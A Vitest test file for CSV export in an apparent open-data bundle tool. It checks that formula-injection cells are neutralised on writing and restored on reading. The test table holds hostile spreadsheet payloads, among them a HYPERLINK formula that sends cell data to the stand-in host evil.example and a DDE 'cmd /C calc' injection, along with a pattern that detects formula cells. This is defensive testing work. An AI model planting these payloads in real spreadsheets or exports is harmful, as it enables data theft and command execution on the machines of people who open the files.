import { describe, expect, it } from "vitest";
import { formatCsv, neutraliseCell, parseCsv, restoreCell } from "../../app/formats/csv";
import { readOpenDataBundle } from "../../app/report/open-data-bundle";
import { describeMismatch, verifyOpenDataBundle } from "../../app/interop/verify-bundle";
import { publishRound, syntheticSnapshot, withReasons } from "../helpers/bundle-rounds";

/** A cell of written CSV that a spreadsheet would run as a formula (a plain number is not one). */
const FORMULA_CELL = /(?:^|,)"?(?:[=+@\t\r]|-(?![\d.]))/m;

describe("CSV formula injection (OWASP): the writer neutralises, the reader restores", () => {
  const table: [cell: string, written: string][] = [
    ["=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["- a bullet", "'- a bullet"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["=", "'="],
    ["-", "'-"],
    // an apostrophe already there is kept: one more is added, so reading back is exact
    ["'=1", "''=1"],
    ["'-x", "''-x"],
    // plain numbers and harmless text stay as they are
    ["-1", "-1"],
    ["-0.5", "-0.5"],
    ["+1", "+1"],
    ["1e-3", "1e-3"],
    ["0", "0"],
    ["'quoted'", "'quoted'"],
    ["a=b", "a=b"],
    ["", ""],
  ];

  it.each(table)("%j is written as %j and read back unchanged", (cell, written) => {
    expect(neutraliseCell(cell)).toBe(written);
    expect(restoreCell(written)).toBe(cell);
    expect(parseCsv(formatCsv([["x", cell]]))).toEqual([["x", cell]]);
  });

  it("leaves numbers (Polis vote columns) untouched", () => {
    expect(formatCsv([[-1, 0, 1, -0.5, "-1"]])).toBe("-1,0,1,-0.5,-1\n");
  });

  it("an exported round whose statement starts with =HYPERLINK is neutralised, its vote columns unchanged, and still verifies", () => {
    const snapshot = withReasons(syntheticSnapshot());
    // a stakeholder group named like a formula: it is a row of groups.csv and of reasons.csv
    snapshot.groups = snapshot.groups.map((g) => (g.name === "Industry" ? { ...g, name: "=Industry" } : g));
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
    snapshot.ballot[0] = { ...snapshot.ballot[0]!, statement: hostile, title: "@title" };
    const { bundle } = publishRound(snapshot);
    const files = bundle.files;
    expect(files["reasons.csv"]).toContain(",group,'=Industry,");
    for (const name of ["comments.csv", "votes.csv", "participants-votes.csv", "participants.csv", "groups.csv", "summary.csv", "reasons.csv"] as const) {
      expect(files[name], name).not.toMatch(FORMULA_CELL);
    }
    expect(files["comments.csv"]).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
    // disagree votes are still written -1 in votes.csv and participants-votes.csv
    expect(files["votes.csv"]).toMatch(/^,,\d+,\d+,-1,/m);
    expect(files["participants-votes.csv"]).toMatch(/,-1(,|$)/m);
    expect(files["participants-votes.csv"]).not.toContain("'-1");
    const read = readOpenDataBundle(files);
    expect(read.comments[0]!.body).toBe(hostile);
    const result = verifyOpenDataBundle(files);
    expect(result.mismatches.map(describeMismatch)).toEqual([]);
    expect(result.numbers).toBeGreaterThan(100);
  });
});
